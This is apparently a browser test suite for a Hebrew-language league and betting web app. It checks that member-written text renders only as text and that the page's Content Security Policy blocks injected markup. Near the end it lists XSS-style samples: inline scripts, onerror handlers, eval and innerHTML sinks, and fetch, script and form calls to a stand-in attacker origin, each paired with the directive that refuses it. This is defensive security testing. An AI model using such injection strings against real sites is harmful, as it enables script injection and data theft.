import { expect, test } from 'vitest';
import type { Message, Item, League, Post } from '#contract/models.ts';
import {
  createMember,
  createStaff,
  isoInDays,
  itemTypeIdFor,
} from '#tests/support/server/leagues-and-games.ts';
import type { ApiMember as Caller } from '#tests/support/server/members.ts';
import { fullDescribe, runSize } from '#tests/support/run-size.ts';
import {
  seedDemoLeagues,
  everyNth,
  ownersPhone,
  restoreWindow,
  type DemoLeagues,
} from '#tests/support/browser/scenes.ts';
import { fixtureOfFile, type SignedInVisitor, type Visitor } from '#tests/support/browser/browser-fixture.ts';
import { t } from '#tests/support/translations.ts';
import {
  payloads,
  setTrap,
  injectIntoAnswers,
  payloadSource,
  type Trap,
} from '#tests/support/browser/xss.ts';

/** What members write is rendered as text, whatever it holds; and the page's policy would refuse to execute it. */

const fixture = fixtureOfFile();

test('the trap records payloads that run on a page without protection', async () => {
  const person = await fixture.newVisitor('בודקת');
  const trap = await setTrap(person.context);
  // One frame each, since some payloads swallow the markup after them.
  await person.page.evaluate((texts) => {
    for (const text of texts) {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<div>${text}</div>`;
      document.body.append(frame);
    }
  }, payloads);
  // The other payloads need another context than the text of an element.
  const different = () => new Set(trap.ran.map((entry) => entry.split(' ')[0])).size;
  await expect.poll(different, { timeout: 120_000 }).toBeGreaterThanOrEqual(45);
  // Payloads keep running until the page is left.
  await person.page.goto('about:blank');
  fixture.allowErrors(person, /./);
});

/**
 * Writes payloads into every text that the API accepts, each by a member who may; each is stored unchanged.
 * Returns the game whose chat has some.
 */
async function storePayloads(demo: DemoLeagues, owner: SignedInVisitor): Promise<number> {
  const next = payloadSource();
  const stored = async <T extends object>(
    what: Promise<{ status: number; body: T }>,
    sent: object,
  ): Promise<T> => {
    const { status, body } = await what;
    expect({ status, body }).toMatchObject({
      status: expect.toSatisfy((it) => it === 200 || it === 201),
      body: sent,
    });
    return body;
  };
  const create = <T extends object>(
    by: Pick<Caller, 'post'>,
    model: string,
    sent: object,
    more: object = {},
  ) => stored(by.post<T>(`${model}/`, { ...sent, ...more }), sent);
  const change = <T extends object>(by: Pick<Caller, 'put'>, path: string, sent: object) =>
    stored(by.put<T>(`${path}/`, sent), sent);
  const { call } = owner;
  const chat = (await call.get<Item>(`item/${demo.items.vote}/`)).body.post;

  const { code } = (await call.get<League>(`section/${demo.other}/`)).body;
  for (let friends = 0; friends < 4; friends += 1) {
    const friend = await createMember(fixture.server, 'מישהו');
    await change(friend, `member/${friend.id}`, { name: next(40) });
    await friend.get('joinAClan/', { code: code ?? '' });
    await create(friend, 'clan', { name: next(20) });
    await create<Message>(friend, 'postcomment', { description: next(500, true) }, { comment_post: chat });
  }
  const leagues: League[] = [];
  for (let count = 0; count < 3; count += 1)
    leagues.push(await create(call, 'section', { name: next(20), description: next(500, true) }));
  // In another league than the wizard's scene, which expects the catalogue's teams first.
  const section = leagues[0]?.id;
  await create(call, 'clan', { name: next(20) });
  await change(call, `post/${chat}`, { description: next(2000, true) });
  await create<Post>(call, 'post', { description: next(2000, true) }, { section: demo.league });
  for (const item of Object.values(demo.items)) {
    const displayTexts = { roundName: next(40), gameTimeDisplay: next(40), shortStatusText: next(40) };
    const description = next(200);
    const sent = { description, ...displayTexts, gameTimeAndStatusDisplayType: 1 };
    expect((await call.put<Item>(`item/${item}/`, sent)).body).toMatchObject({
      description,
      details: displayTexts,
    });
  }

  const staff = await createStaff(fixture.server, next(40));
  const type = await create<{ id: number }>(
    staff,
    'itemtype',
    { name: next(60), description: next(200) },
    { type: 'vote' },
  );
  const choices = [1, 2].map((value) => ({ value, title: next(60) }));
  await create(staff, 'itemrule', { name: next(60), value: next(60) }, { key: 'wine', itemType: type.id });
  const chosen = { name: next(60), details: { choices, hint: next(60) } };
  await create(staff, 'itemrule', chosen, { key: 'beer', type: 'select', value: 1, itemType: type.id });

  // Games of that type and of another, with payloads in their options and rules.
  const options: number[] = [];
  for (let count = 0; count < 3; count += 1)
    options.push((await create<{ id: number }>(call, 'option', { name: next(60) }, { section })).id);
  const groups = [{ name: next(120), options }];
  for (const [itemType, more] of [
    [type.id, { wine: next(60), beer: 2 }],
    [await itemTypeIdFor(call, 'bets'), {}],
  ] as const) {
    const rules = { due_date: isoInDays(2), description: next(2000, true), ...more };
    await create<Post>(call, 'createPostV3', {}, { section, itemType, rules, groups });
  }
  return chat;
}

/** Texts that the scenes look for and that stay unchanged: a few names, and the catalogue's teams. */
async function textsScenesNeed(): Promise<ReadonlySet<string>> {
  const teams = await fixture.server.platform.db
    .selectFrom('options')
    .select('name')
    .where('league_id', 'is', null)
    .execute();
  const others =
    'עוד ליגה|פיצה|המשרד|אבי|בני|גיא|כדורגל|מחזור משחקים|הצבעה|כדורת|מי שופט?|יוסי כהן|' +
    'על מה הניחוש?|סגירת הניחושים';
  return new Set([...others.split('|'), ...teams.map(({ name }) => name)]);
}

/** The number of payloads in every text of a screen at a time. */
const payloadsPerText = 20;
/** The full sizes take up to an hour. */
const longTimeout = 60 * 60_000;

test('no text that members write is ever executed, on any screen', { timeout: longTimeout }, async () => {
  const demo = await seedDemoLeagues(fixture);
  const unchangedTexts = await textsScenesNeed();
  const chosenScenes = everyNth(runSize('scenes with payloads, one of', 20, 1));
  const batches = runSize(
    'batches of twenty payloads in every text of a scene',
    1,
    payloads.length / payloadsPerText,
  );
  let chat = 0;
  for (let batch = 0; batch < batches; batch += 1) {
    // Every n-th payload, so that each batch has every kind.
    const batchPayloads = payloads.filter((_, at) => at % (payloads.length / payloadsPerText) === batch);
    const [owner, guest] = await Promise.all([
      fixture.signedInVisitor('נועה', { phone: ownersPhone }),
      fixture.newVisitor('אורח'),
    ]);
    if (batch === 0) chat = await storePayloads(demo, owner);
    const traps: Trap[] = [];
    for (const { context, page } of [owner, guest]) {
      traps.push(await setTrap(context));
      await injectIntoAnswers(context, batchPayloads.join(' '), unchangedTexts);
      await fixture.open(page, '/terms');
    }
    const scenesWithPayload = new Set<string>();
    for (const { name, show } of chosenScenes) {
      const page = await show({ owner, guest, demo, t });
      if ((await page.getByText(batchPayloads[0] ?? '').count()) > 0) scenesWithPayload.add(name);
    }
    await restoreWindow(owner.page);
    await fixture.open(owner.page, `/post/${chat}?sheet=chat&of=${chat}`);
    await owner.page
      .getByRole('dialog')
      .getByText(batchPayloads[0] ?? '')
      .first()
      .waitFor();
    expect(traps.flatMap(({ ran, refused }) => [...ran, ...refused])).toEqual([]);
    // The payloads were shown, on most screens.
    expect(scenesWithPayload.size).toBeGreaterThan(chosenScenes.length / 2);
    fixture.allowErrors(owner, /status of 404/);
    fixture.allowErrors(guest, /status of 404/);
    // An answer that is still being changed when its page closes cannot be fulfilled.
    for (const { context } of [owner, guest]) await context.unrouteAll({ behavior: 'ignoreErrors' });
    await fixture.closeVisitors();
  }
});

fullDescribe('an address', () => {
  test(
    'is rendered as text too, whichever of its parts has a payload',
    async () => {
      const [owner, guest] = await Promise.all([fixture.signedInVisitor('נועה'), fixture.newVisitor('אורח')]);
      const count = runSize('payloads in every part of an address', 1, payloads.length);
      const some = payloads.filter((_, at) => at % (payloads.length / count) === 0);
      const traps = await Promise.all([owner, guest].map(({ context }) => setTrap(context)));
      const foreignUrls: string[] = [];
      for (const { context, page } of [owner, guest]) {
        await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
          foreignUrls.push(route.request().url());
          return route.abort();
        });
        await fixture.open(page, '/terms');
      }
      for (const payload of [...some, '//q.example/', 'https://q.example/']) {
        const text = encodeURIComponent(payload);
        const hashes = [
          `/${text}`,
          `/section/${text}`,
          `/post/${text}`,
          `/profile/${text}`,
          `/item?id=${text}`,
          `/join?code=${text}`,
          `/login?return=${text}`,
          `/sections?tab=${text}&sheet=${text}&section=${text}&clan=${text}&wizard=${text}`,
        ];
        const visit = async ({ page }: Visitor) => {
          for (const hash of hashes) {
            await page.evaluate((to) => location.replace(`#${to}`), hash);
            await page.getByRole('heading', { level: 1 }).first().waitFor();
          }
          await page.goto(`${fixture.server.url}/?joinclan=${text}&q=${text}#${payload}`);
          await page.getByRole('heading', { level: 1 }).first().waitFor();
        };
        await Promise.all([owner, guest].map(visit));
      }
      expect(traps.flatMap(({ ran, refused }) => [...ran, ...refused])).toEqual([]);
      // No payload makes a request to another origin or leaves the page.
      expect(foreignUrls).toEqual([]);
      expect([owner, guest].map(({ page }) => new URL(page.url()).origin)).toEqual(
        Array(2).fill(fixture.server.url),
      );
      for (const person of [owner, guest]) fixture.allowErrors(person, /status of 40[04]/);
    },
    longTimeout,
  );
});

/** The attacker's origin. */
const foreign = 'https://q.example';

/** Markup injected into the page's HTML, and the directive that refuses it. */
const markup: [html: string, refused: string][] = [
  ['<script>x$(1)</script>', 'script-src-elem inline'],
  ['<script type="module">x$(2)</script>', 'script-src-elem inline'],
  ['<img src="/icon.svg" onload="x$(3)">', 'script-src-attr inline'],
  [`<script src="${foreign}/q.js"></script>`, `script-src-elem ${foreign}/q.js`],
  ['<script src="data:text/javascript,x$(4)"></script>', 'script-src-elem data'],
  [`<iframe src="${foreign}/"></iframe>`, `frame-src ${foreign}`],
  ['<iframe srcdoc="<script>parent.x$(5)</script>"></iframe>', 'script-src-elem inline'],
  [`<object data="${foreign}/o"></object>`, `object-src ${foreign}`],
  [`<img src="${foreign}/q.png">`, `img-src ${foreign}/q.png`],
  [`<link rel="stylesheet" href="${foreign}/q.css">`, `style-src-elem ${foreign}/q.css`],
  [`<base href="${foreign}/">`, `base-uri ${foreign}/`],
];

const typed = 'require-trusted-types-for trusted-types-sink';
/** What a script of the page's own origin tries, and the directive that refuses it. */
const attempts: [code: string, refused: string][] = [
  ['eval("x$(11)")', typed],
  ['new Function("x$(12)")()', typed],
  ['setTimeout("x$(13)")', typed],
  ['document.body.innerHTML = "<img src=q onerror=x$(14)>"', typed],
  ['document.body.outerHTML = "<img src=q onerror=x$(15)>"', typed],
  ['document.body.insertAdjacentHTML("beforeend", "<img src=q onerror=x$(16)>")', typed],
  ['document.write("<img src=q onerror=x$(17)>")', typed],
  ['document.createElement("iframe").srcdoc = "<img src=q onerror=parent.x$(18)>"', typed],
  ['document.createRange().createContextualFragment("<img src=q onerror=x$(19)>")', typed],
  ['new DOMParser().parseFromString("<p>", "text/html")', typed],
  [`document.createElement("script").src = "${foreign}/s.js"`, typed],
  ['document.createElement("script").text = "x$(20)"', typed],
  [`new Worker("${foreign}/w.js")`, typed],
  ['trustedTypes.createPolicy("q", { createHTML: (it) => it })', 'trusted-types trusted-types-policy'],
  ['import("data:text/javascript,x$(21)").catch(() => {})', 'script-src-elem data'],
  [`fetch("${foreign}/f").catch(() => {})`, `connect-src ${foreign}/f`],
  [`new EventSource("${foreign}/e")`, `connect-src ${foreign}/e`],
  [
    `{ const it = document.createElement("form"); it.action = "${foreign}/"; document.body.append(it); it.submit(); }`,
    `form-action ${foreign}/?`,
  ],
  [
    '{ const it = document.createElement("a"); it.href = "javascript:x$(22)"; it.click(); }',
    'script-src-elem inline',
  ],
];

test('injected markup and scripts are refused by the page’s policy', async () => {
  const person = await fixture.newVisitor('תוקפת');
  const { page, context } = person;
  const trap = await setTrap(context);
  const foreignUrls: string[] = [];
  await context.route(`${foreign}/**`, (route) => {
    foreignUrls.push(route.request().url());
    return route.abort();
  });
  const tries = attempts.map(([code]) => `try { ${code} } catch {}`).join('\n');
  await page.route('**/attempts.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: tries }),
  );
  const more = markup.map(([html]) => html).join('\n');
  await page.route(`${fixture.server.url}/`, async (route) => {
    const answer = await route.fetch();
    const html = await answer.text();
    // The page keeps its own policy, for the injected markup too.
    await route.fulfill({
      response: answer,
      body: html.replace('</body>', `${more}<script src="/attempts.js"></script></body>`),
    });
  });
  // The form's refused navigation keeps the page from loading completely.
  await page.goto(`${fixture.server.url}/#/login`, { waitUntil: 'commit' });
  const refused = () => trap.refused.map((entry) => entry.split(' ').slice(0, 2).join(' ')).toSorted();
  const expected = [...markup, ...attempts].map(([, by]) => by).toSorted();
  await expect.poll(refused).toEqual(expected);
  expect(trap.ran).toEqual([]);
  expect(foreignUrls).toEqual([]);
  expect(page.url()).toBe(`${fixture.server.url}/#/login`);
  fixture.allowErrors(person, /./);
});
